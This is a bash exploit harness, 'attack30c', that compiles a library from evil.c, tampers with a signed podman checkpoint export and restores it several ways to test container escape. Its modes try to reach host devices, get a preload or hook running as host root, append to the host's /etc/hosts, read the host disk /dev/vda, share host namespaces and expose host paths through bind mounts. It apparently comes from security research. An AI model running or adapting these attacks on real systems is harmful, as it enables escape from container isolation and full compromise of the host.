#!/bin/bash
# attack30c: edited copies of this node's own signed export through podman's own `podman container restore --import`.
set -u
D=/var/tmp/attack30c; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
SRC=${SRC:-src.tar.zst}; cd $D; gcc -shared -fPIC -o $D/attack30c.so $H/evil.c
for mode in ${@:-rule nvidia hookenv hookcase bindrel}; do
  echo "=== $mode"
  $P $H/edit.py $SRC $mode.tar.zst $mode >/dev/null
  podman rm -f -t 0 attack30c-src >/dev/null 2>&1
  rm -f $D/preload-ran $D/hookcase-ran; echo "host secret attack30c" > $D/hostfile; chmod 600 $D/hostfile
  timeout 200 podman container restore --import $mode.tar.zst 2>&1 | tail -1 | cut -c1-600; echo "restore rc=${PIPESTATUS[0]}"
  case $mode in
    rule*|nvidia|nvidiaonly|nodeonly) podman exec attack30c-src sh -c "echo attack30c-$mode-$$ > /attack30c-dev" 2>&1; echo "exec rc=$?"
                 dmesg | grep "attack30c-$mode-$$" && echo "HOST DEVICE reached" || echo "no kernel log line";;
    hookenv*) [ -e $D/preload-ran ] && echo "HOST ROOT: $(cat $D/preload-ran)" || echo "preload did not run";;
    hookcase) [ -e $D/hookcase-ran ] && echo "HOST ROOT: $(cat $D/hookcase-ran)" || echo "hook did not run";;
    symbind) podman exec attack30c-src sh -c 'cat /etc/hosts; echo attack30c-written-from-container >> /etc/hosts' 2>&1; echo "exec rc=$?"
             echo "host file now:"; cat $D/hostfile;;
    blk) podman exec attack30c-src sh -c 'dd if=/attack30c-dev bs=1024 skip=1 count=1 2>/dev/null | od -A d -t x2 -j 56 -N 2; dd if=/attack30c-dev bs=1024 skip=1 count=1 2>/dev/null | od -A d -c -j 120 -N 16' 2>&1; echo "exec rc=$?"
         echo "host's own: $(dd if=/dev/vda bs=1024 skip=1 count=1 2>/dev/null | od -A d -t x2 -j 56 -N 2 | head -1) (ext4 magic ef53 at 1080; s_volume_name at 1144)";;
    host*) echo "container: $(podman exec attack30c-src sh -c 'readlink /proc/1/ns/net /proc/1/ns/pid /proc/1/ns/mnt; cat /proc/net/dev | cut -d: -f1 | tail -n +3' | tr '\n' ' ')"; echo "host (this shell):      $(readlink /proc/self/ns/net /proc/self/ns/pid /proc/self/ns/mnt | tr '\n' ' ')";;
    bindrel) podman exec attack30c-src sh -c 'ls /attack30c-host | head -5' 2>&1; echo "exec rc=$?";;
  esac
  podman rm -f -t 0 attack30c-src >/dev/null 2>&1
done
